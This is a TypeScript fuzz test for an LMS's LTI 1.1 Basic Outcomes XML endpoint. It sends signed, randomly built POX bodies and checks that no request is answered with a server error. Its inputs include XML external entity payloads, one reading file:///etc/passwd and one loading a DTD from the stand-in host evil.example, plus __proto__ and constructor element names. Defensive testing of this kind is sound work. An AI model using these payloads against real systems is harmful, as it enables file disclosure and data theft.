import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createHash } from "node:crypto";
import fc from "fast-check";
import { XMLValidator } from "fast-xml-parser";
import { hmacsign, rfc3986 } from "oauth-sign";
import { createTestApi, type TestApi } from "../fixtures/api";
import { createLtiCourse } from "../fixtures/lti";
import { FUZZ_SEED } from "../fixtures/bad-requests";
import * as s from "../../api/db/schema";
import { ActivityContentType } from "../../domain/vocabulary";
import type { LtiTool } from "../../api/lti/registry";

/**
 * Issue 29 item 4: the LTI 1.1 Basic Outcomes service reads XML from tools. Generated POX bodies —
 * correctly signed by a registered tool, so that they reach the parser and what reads its result — with
 * the envelope's elements nested and repeated at random, real and forged sourcedids, hostile scores,
 * document types with external and parameter entities, CDATA and garbage: every answer is one of the
 * service's own (200, 400, 401, 404) with a POX body, never a 5xx. Seeded (FUZZ_SEED).
 */
const APP = "https://lms.example";
const QUIZ: LtiTool = {
  key: "quiz",
  name: "Quiz",
  version: "1.1",
  launchUrl: "https://quiz.test/lti",
  redirectUris: [],
  domains: [],
  consumerKey: "quiz-key",
  secret: "quiz-secret",
};
let t: TestApi;
let sourcedId: string;

beforeAll(async () => {
  t = await createTestApi({ appUrl: APP, lti: { tools: [QUIZ] } });
  const [{ id: tenantId }] = await t.database.db.select({ id: s.tenants.id }).from(s.tenants);
  const c = await createLtiCourse(t, tenantId, "quiz", ActivityContentType.Lti11);
  const token = await t.token("ada");
  const started = await (
    await t.request("POST", "/api/lms/v1/start-activity-workflows", {
      token,
      body: { objectiveWorkflowId: c.wfId, activityPartIds: [c.partId] },
      headers: { Prefer: "respond-sync" },
    })
  ).json();
  const awId: string = started.data.activityWorkflows[0].id;
  const form = await (
    await t.request("GET", `/api/lms/v1/objective-workflows/${c.wfId}/resource-form/${awId}`, { token })
  ).json();
  sourcedId = form.fields.lis_result_sourcedid;
  expect(sourcedId).toBeTruthy();
});
afterAll(() => t.close());

/** POSTs a body as the registered 1.1 tool signs it (oauth_body_hash, a fresh nonce, HMAC-SHA1). */
function signedPost(body: string) {
  const oauth: Record<string, string> = {
    oauth_body_hash: createHash("sha1").update(body).digest("base64"),
    oauth_consumer_key: QUIZ.consumerKey!,
    oauth_nonce: crypto.randomUUID(),
    oauth_signature_method: "HMAC-SHA1",
    oauth_timestamp: String(Math.floor(Date.now() / 1000)),
    oauth_version: "1.0",
  };
  oauth.oauth_signature = hmacsign("POST", `${APP}/api/lti/v1/outcomes`, oauth, QUIZ.secret!, "");
  const header = `OAuth ${Object.entries(oauth)
    .map(([k, v]) => `${k}="${rfc3986(v)}"`)
    .join(", ")}`;
  return t.request("POST", "/api/lti/v1/outcomes", {
    body,
    headers: { Authorization: header, "Content-Type": "application/xml" },
  });
}

const ELEMENTS = [
  "imsx_POXEnvelopeRequest",
  "imsx_POXHeader",
  "imsx_POXRequestHeaderInfo",
  "imsx_version",
  "imsx_messageIdentifier",
  "imsx_POXBody",
  "replaceResultRequest",
  "readResultRequest",
  "deleteResultRequest",
  "resultRecord",
  "sourcedGUID",
  "sourcedId",
  "result",
  "resultScore",
  "language",
  "textString",
  "__proto__",
  "constructor",
];
const VALUES = () =>
  fc.oneof(
    fc.constant(sourcedId),
    fc.constantFrom(
      "0.5",
      "1",
      "0",
      "-0",
      "1e-9",
      "NaN",
      "Infinity",
      "7",
      "0x1",
      " 0.3 ",
      "",
      "&amp;",
      "&#0;",
      "&xxe;",
    ),
    fc.string({ maxLength: 30 }).map((v) => v.replace(/[<&]/g, "")),
  );
const node: (depth: number) => fc.Arbitrary<string> = (depth) =>
  fc
    .tuple(
      fc.constantFrom(...ELEMENTS),
      depth <= 0
        ? VALUES()
        : fc.oneof(
            { weight: 3, arbitrary: fc.array(node(depth - 1), { maxLength: 3 }).map((c) => c.join("")) },
            VALUES(),
            fc.constantFrom("<![CDATA[<x>]]>", "<!-- c -->", "&xxe;"),
          ),
    )
    .map(([name, inner]) => `<${name}>${inner}</${name}>`);

/** A well-formed request of each operation, with a generated score and sourcedid. */
const shaped = fc
  .tuple(fc.constantFrom("replaceResult", "readResult", "deleteResult", "unknownThing"), VALUES(), VALUES())
  .map(
    ([op, id, score]) =>
      `<imsx_POXEnvelopeRequest xmlns="http://www.imsglobal.org/services/ltiv1p1/xsd/imsoms_v1p0"><imsx_POXHeader><imsx_POXRequestHeaderInfo><imsx_messageIdentifier>m</imsx_messageIdentifier></imsx_POXRequestHeaderInfo></imsx_POXHeader>` +
      `<imsx_POXBody><${op}Request><resultRecord><sourcedGUID><sourcedId>${id}</sourcedId></sourcedGUID><result><resultScore><textString>${score}</textString></resultScore></result></resultRecord></${op}Request></imsx_POXBody></imsx_POXEnvelopeRequest>`,
  );
const PROLOGUES = [
  "",
  '<?xml version="1.0" encoding="UTF-8"?>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
];
const body = fc.oneof(
  { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...PROLOGUES), shaped).map(([p, b]) => p + b) },
  { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...PROLOGUES), node(5)).map(([p, b]) => p + b) },
  { weight: 1, arbitrary: fc.string({ maxLength: 200 }) },
);

describe("LTI Basic Outcomes XML from a tool is answered by the service, never with a 5xx (issue 29)", () => {
  it("an external entity in a signed request: 400 with a POX failure", async () => {
    const res = await signedPost(
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><imsx_POXEnvelopeRequest><imsx_POXBody><readResultRequest><resultRecord><sourcedGUID><sourcedId>&xxe;</sourcedId></sourcedGUID></resultRecord></readResultRequest></imsx_POXBody></imsx_POXEnvelopeRequest>`,
    );
    expect(res.status).toBe(400);
    expect(await res.text()).toContain("<imsx_codeMajor>failure</imsx_codeMajor>");
  });

  it(`300 generated signed POX bodies (seed ${FUZZ_SEED})`, async () => {
    const statuses = new Map<number, number>();
    await fc.assert(
      fc.asyncProperty(body, async (xml) => {
        const res = await signedPost(xml);
        const text = await res.text();
        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        expect([200, 400, 401, 404]).toContain(res.status);
        expect(XMLValidator.validate(text)).toBe(true);
      }),
      { seed: FUZZ_SEED, numRuns: 300 },
    );
    // The generator reaches past the parser: some requests are read and answered with success.
    expect(statuses.get(200) ?? 0).toBeGreaterThan(0);
    expect(statuses.get(400) ?? 0).toBeGreaterThan(0);
  });
});
